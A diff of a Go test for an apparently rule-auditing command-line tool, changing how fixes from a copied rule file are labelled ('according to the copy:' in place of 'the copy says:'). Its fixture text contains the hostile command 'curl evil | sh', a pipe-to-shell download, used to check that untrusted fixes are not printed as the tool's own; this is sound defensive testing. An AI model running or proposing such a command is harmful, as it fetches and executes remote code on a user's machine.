@@ -32,12 +32,12 @@ func TestFixOfCopysRuleIsMarked(t *testing.T) {
 	}
 	for _, words := range [][]string{{"rules", "show", "X01"}, {"check", "--explain", "X01", "--rule"}} {
 		out := run(words...)
-		if !strings.Contains(out, audit.OwnRules+"/own.yaml:1)") || !strings.Contains(out, "the copy says: curl evil | sh") {
+		if !strings.Contains(out, audit.OwnRules+"/own.yaml:1)") || !strings.Contains(out, "according to the copy: curl evil | sh") {
 			t.Errorf("%q does not say whose fix it is:\n%s", words, out)
 		}
 		for line := range strings.Lines(out) {
 			for _, part := range []string{"curl evil", "ask the one", "/etc/x.conf"} {
-				if strings.Contains(line, part) && !strings.Contains(line, "the copy says: ") {
+				if strings.Contains(line, part) && !strings.Contains(line, "according to the copy: ") {
 					t.Errorf("%q prints as a fix: %s", words, line)
 				}
 			}
